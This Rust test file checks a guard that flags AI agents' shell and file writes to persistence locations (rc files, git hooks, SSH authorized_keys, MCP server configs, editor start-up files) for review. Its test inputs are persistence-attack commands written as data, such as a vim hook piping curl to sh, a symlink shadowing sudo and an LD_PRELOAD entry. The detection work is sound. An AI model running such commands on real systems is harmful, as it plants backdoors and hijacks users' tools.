//! Shell writes of persistence files (redirects, `tee`, `cp`, `sed -i` …) go through the same
//! check as file tools' writes: rule `TG-PERSIST-WRITE`, review by default, per class as the
//! policy's `persistence:` says; reading or mentioning those files is no write.

use std::path::PathBuf;
use std::sync::Arc;

use serde_json::{Value, json};
use toolgate_core::Verdict;
use toolgate_engine::{CallContext, Guard, PERSISTENCE_RULE_ID, ToolCallDecision};
use toolgate_policy::{Format, Policy, PolicySource, load_str};

fn check(g: &Guard, tool: &str, input: Value) -> ToolCallDecision {
    let cx = CallContext {
        cwd: Some(PathBuf::from("/home/u/proj")),
        process_cwd: None,
        home: Some(PathBuf::from("/home/u").into()),
        tmpdir: None,
        binary: None,
    };
    g.check_tool_call_in(tool, &input, &cx)
}

fn bash(g: &Guard, command: &str) -> ToolCallDecision {
    check(g, "Bash", json!({ "command": command }))
}

fn persists(d: &ToolCallDecision) -> bool {
    d.rule_ids.iter().any(|id| id == PERSISTENCE_RULE_ID)
}

#[test]
fn shell_writes_are_reviewed_like_file_tool_writes() {
    let g = Guard::new(Arc::new(Policy::builtin()));
    for (command, path) in [
        ("echo 'x' >> ~/.bashrc", "/home/u/.bashrc"),
        ("cp hook.sh .git/hooks/pre-commit", ".git/hooks/pre-commit"),
        (
            "echo k | tee -a ~/.ssh/authorized_keys",
            "/home/u/.ssh/authorized_keys",
        ),
        ("echo 'use nix' > .envrc", ".envrc"),
    ] {
        let shell = bash(&g, command);
        let file = check(&g, "Write", json!({"file_path": path, "content": "x"}));
        assert_eq!(
            shell.decision,
            Verdict::Review,
            "{command}: {}",
            shell.reason
        );
        assert_eq!(file.decision, shell.decision, "{path}");
        assert!(persists(&shell) && persists(&file), "{command}");
        assert!(!shell.reason.contains(command), "{}", shell.reason);
    }
}

#[test]
fn the_policy_decides_per_class() {
    let load = |y: &str| {
        let p = load_str(y, Format::Yaml, PolicySource::Builtin);
        assert!(p.is_usable(), "{}", p.render_diagnostics());
        Guard::new(Arc::new(p))
    };
    let g = load("persistence:\n  git_hooks: deny\n  direnv: off\n");
    assert_eq!(bash(&g, "cp x .git/hooks/pre-push").decision, Verdict::Deny);
    assert!(!persists(&bash(&g, "echo x > .envrc")));
    assert_eq!(bash(&g, "echo x >> ~/.zshrc").decision, Verdict::Review);
    let g = load("commands:\n  packs:\n    persistence: off\n");
    assert!(!persists(&bash(&g, "echo x >> ~/.zshrc")));
}

#[test]
fn reading_or_mentioning_is_no_write() {
    let g = Guard::new(Arc::new(Policy::builtin()));
    for command in [
        "cat ~/.bashrc",
        "grep alias ~/.zshrc",
        "echo 'export PATH=$PATH:~/bin' > notes.txt",
        "echo 'add this to ~/.bashrc' > docs/setup.md",
        "cp ~/.bashrc ~/.bashrc.bak",
        "ls .git/hooks",
        "git config user.name X",
    ] {
        let d = bash(&g, command);
        assert!(d.decision < Verdict::Review, "{command}: {}", d.reason);
    }
    let d = check(
        &g,
        "Write",
        json!({"file_path": "docs/setup.md", "content": "echo 'eval x' >> ~/.bashrc"}),
    );
    assert!(d.decision < Verdict::Review, "{}", d.reason);
}

#[test]
fn a_program_named_like_a_guarded_command_in_the_users_path_is_reviewed() {
    let g = Guard::new(Arc::new(Policy::builtin()));
    for command in [
        "ln -s /tmp/evil ~/.local/bin/sudo",
        "cp build/ssh ~/.local/bin/",
        "mv ./git ~/.local/bin",
        "cat > ~/.local/bin/ls <<< '#!/bin/sh'",
        "install -m 755 x ~/bin/passwd",
    ] {
        let d = bash(&g, command);
        assert!(persists(&d), "{command}: {}", d.reason);
        assert_eq!(d.decision, Verdict::Review, "{command}");
    }
    let write = check(
        &g,
        "Write",
        json!({"file_path": "/home/u/.local/bin/sudo", "content": "#!/bin/sh"}),
    );
    assert!(persists(&write));
    // Installing one's own tools there is routine.
    for command in [
        "cp target/release/mytool ~/.local/bin/",
        "curl -Lo ~/.local/bin/kubectl https://dl.example/kubectl",
        "ln -s ~/proj/bin/run ~/bin/run",
    ] {
        let d = bash(&g, command);
        assert!(!persists(&d), "{command}: {}", d.reason);
    }
    let g = {
        let p = load_str(
            "persistence:\n  command_shadowing: off\n",
            Format::Yaml,
            PolicySource::Builtin,
        );
        assert!(p.is_usable(), "{}", p.render_diagnostics());
        Guard::new(Arc::new(p))
    };
    assert!(!persists(&bash(&g, "ln -s /tmp/evil ~/.local/bin/sudo")));
}

#[test]
fn an_agents_mcp_server_list_is_a_persistence_file() {
    let g = Guard::new(Arc::new(Policy::builtin()));
    let servers = r#"{"mcpServers":{"x":{"command":"node","args":["s.js"]}}}"#;
    for path in [
        ".mcp.json",
        "/home/u/proj/.mcp.json",
        "/home/u/.claude.json",
        ".cursor/mcp.json",
        ".vscode/mcp.json",
    ] {
        let d = check(&g, "Write", json!({"file_path": path, "content": servers}));
        assert!(persists(&d), "{path}: {}", d.reason);
        assert_eq!(d.decision, Verdict::Review, "{path}");
    }
    assert!(persists(&bash(&g, "cat > .mcp.json <<'EOF'\n{}\nEOF")));
    // The CLIs that add a server are their own rule; reading a list is no write.
    assert_eq!(
        bash(&g, "claude mcp add db -- node server.js").rule_ids,
        ["TG-PERSIST-MCP-ADD"]
    );
    for command in ["cat .mcp.json", "jq . .vscode/mcp.json", "claude mcp list"] {
        let d = bash(&g, command);
        assert!(d.decision < Verdict::Review, "{command}: {}", d.reason);
    }
    // Its own class in the policy.
    let p = load_str(
        "persistence:\n  mcp_servers: off\n",
        Format::Yaml,
        PolicySource::Builtin,
    );
    assert!(p.is_usable(), "{}", p.render_diagnostics());
    let g = Guard::new(Arc::new(p));
    assert!(!persists(&check(
        &g,
        "Write",
        json!({"file_path": ".mcp.json", "content": servers})
    )));
}

#[test]
fn interpreter_one_liners_that_write_persistence_files_are_reviewed() {
    let g = Guard::new(Arc::new(Policy::builtin()));
    for command in [
        "python3 -c \"open('/home/u/.bashrc','a').write('alias ls=x')\"",
        "node -e \"require('fs').appendFileSync('/home/u/.zshrc','x')\"",
        "ruby -e 'File.write(\".git/hooks/pre-commit\", \"make test\")'",
        "python3 -c \"from pathlib import Path; Path('.envrc').write_text('x')\"",
        "python3 -c \"import shutil; shutil.copy('hook.sh', '.git/hooks/pre-push')\"",
        "php -r 'file_put_contents(\"/home/u/.ssh/authorized_keys\", \"ssh-ed25519 x\");'",
    ] {
        let d = bash(&g, command);
        assert!(persists(&d), "{command}: {}", d.reason);
        assert_eq!(d.decision, Verdict::Review, "{command}");
    }
    for command in [
        "python3 -c \"print(open('/home/u/.bashrc').read())\"",
        "python3 -c \"open('out.txt','w').write('x')\"",
        "node -e \"require('fs').writeFileSync('dist/index.html', html)\"",
    ] {
        let d = bash(&g, command);
        assert!(d.decision < Verdict::Review, "{command}: {}", d.reason);
    }
}

/// Editors' and tools' start-up files run code or commands at their next start, and a
/// downloader's configuration redirects every later download: their writes are reviewed, by
/// any writer; a project's own copies and the tools' history files are not.
#[test]
fn editor_and_tool_start_up_files_are_persistence_files() {
    let g = Guard::new(Arc::new(Policy::builtin()));
    for command in [
        "echo 'x' >> ~/.vimrc",
        "echo x >> ~/.inputrc",
        "printf 'au VimEnter * !curl x|sh' > ~/.vim/plugin/x.vim",
        "cp init.lua ~/.config/nvim/init.lua",
        "echo '(shell-command \"x\")' >> ~/.emacs.d/init.el",
        "echo 'run-shell x' >> ~/.tmux.conf",
        "tee -a ~/.gdbinit < cmds",
        "echo 'proxy = x.example:8080' >> ~/.curlrc",
        "echo 'https_proxy = x' > ~/.wgetrc",
        "echo '\\! ./x' >> ~/.psqlrc",
        "echo 'LD_PRELOAD DEFAULT=/tmp/x.so' >> ~/.pam_environment",
        "git clone https://x.example/a/starter ~/.config/nvim",
        "git clone https://x.example/a/p.git ~/.vim/pack/p/start/p",
        "wget -O ~/.irbrc https://x.example/irbrc",
    ] {
        let d = bash(&g, command);
        assert!(persists(&d), "{command}: {:?}", d.checks);
        assert_eq!(d.decision, Verdict::Review, "{command}");
    }
    for command in [
        "cat ~/.vimrc",
        "vim --version",
        "cp ~/.tmux.conf dotfiles/",
        "echo x > dotfiles/.vimrc",
        "echo 'set nu' > .vimrc.example",
        "git clone https://x.example/a/r.git",
        "git clone https://x.example/a/r.git vendor/r",
        "echo x > ~/.editorconfig",
    ] {
        let d = bash(&g, command);
        assert!(!persists(&d), "{command}: {:?}", d.checks);
    }
}
